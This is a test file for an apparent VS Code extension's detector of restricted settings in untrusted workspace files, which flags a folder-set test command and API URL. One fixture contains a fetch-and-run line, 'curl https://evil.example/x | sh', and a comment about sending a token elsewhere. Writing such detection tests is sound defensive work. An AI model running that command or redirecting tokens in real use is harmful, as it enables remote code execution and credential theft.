import * as assert from 'node:assert/strict';
import { ignoredSettingsMessage, restrictedSettingsIn } from '../../../src/ui/restrictedSettings';
import { unclosedCommentSettings } from '../../support/hostileSettingsText';

describe('restricted settings in a folder settings file', () => {
  it('finds the restricted EnvFlow keys a folder sets, comments and all', () => {
    const text = `{
      // a workspace that would like to run something
      "envflow.testCommand": "curl https://evil.example/x | sh",
      /* and send the token elsewhere */
      "envflow.github.apiUrl": "http://127.0.0.1:9/api",
      "envflow.pollInterval": 10,
    }`;
    assert.deepEqual(restrictedSettingsIn(text), ['envflow.testCommand', 'envflow.github.apiUrl']);
  });

  it('ignores keys that are only mentioned in comments or values', () => {
    const text = `{
      // "envflow.testCommand": "make test",
      /* "envflow.github.apiUrl": "x" */
      "editor.rulers": ["envflow.testCommand"],
      "http.proxy": "http://proxy//\\"envflow.github.apiUrl\\": "
    }`;
    assert.deepEqual(restrictedSettingsIn(text), []);
  });

  it("reads a workspace file's settings and the nested form VS Code also accepts", () => {
    assert.deepEqual(restrictedSettingsIn('{ "folders": [], "settings": { "envflow.testCommand": "sh x" } }'), [
      'envflow.testCommand',
    ]);
    assert.deepEqual(restrictedSettingsIn('{ "envflow": { "github": { "apiUrl": "http://x" } } }'), [
      'envflow.github.apiUrl',
    ]);
    assert.deepEqual(
      restrictedSettingsIn('{ "envflow.github": { "apiUrl": "http://x" }, "envflow": { "testCommand": "" } }'),
      ['envflow.testCommand', 'envflow.github.apiUrl'],
    );
    assert.deepEqual(restrictedSettingsIn('{ "envflow": { "testCommandX": 1 }, "settings": 3 }'), []);
  });

  it('reads a broken file as far as it parses, as VS Code does', () => {
    assert.deepEqual(restrictedSettingsIn('{ "envflow.testCommand": "make test", "x": '), ['envflow.testCommand']);
    assert.deepEqual(restrictedSettingsIn('not json at all'), []);
    assert.deepEqual(restrictedSettingsIn(''), []);
  });

  it('reads a hostile 5 MB settings file with an unclosed /* in linear time', () => {
    const text = unclosedCommentSettings(5_000_000);
    const started = process.hrtime.bigint();
    const found = restrictedSettingsIn(text);
    const ms = Number(process.hrtime.bigint() - started) / 1e6;
    // The budget (500 ms) is the bench's hostile_settings_5mb_ms; this bound only catches a
    // quadratic reader, which takes minutes here, without flaking on a loaded machine.
    assert.ok(ms < 10_000, `${(text.length / 1e6).toFixed(1)} MB took ${ms.toFixed(0)} ms`);
    assert.deepEqual(found, ['envflow.testCommand']);
  });

  it('reads other hostile shapes in one pass, 100,000 nested brackets included (a recursive parser overflows the stack)', () => {
    const hostile = [
      `{ ${'"k": "\\"'.repeat(100_000)}`,
      `${'['.repeat(100_000)}${'{"a":'.repeat(50_000)}`,
      `{ ${'"a": 1, '.repeat(100_000)} "envflow.github.apiUrl": "x" }`,
    ];
    assert.deepEqual(
      hostile.map((text) => restrictedSettingsIn(text)),
      [[], [], ['envflow.github.apiUrl']],
    );
  });

  it('says in one sentence what is ignored and until when', () => {
    assert.equal(
      ignoredSettingsMessage(['envflow.testCommand', 'envflow.github.apiUrl']),
      "This folder's own settings set envflow.testCommand and envflow.github.apiUrl; EnvFlow ignores them until you trust the folder.",
    );
    assert.equal(
      ignoredSettingsMessage(['envflow.testCommand']),
      "This folder's own settings set envflow.testCommand; EnvFlow ignores it until you trust the folder.",
    );
  });
});
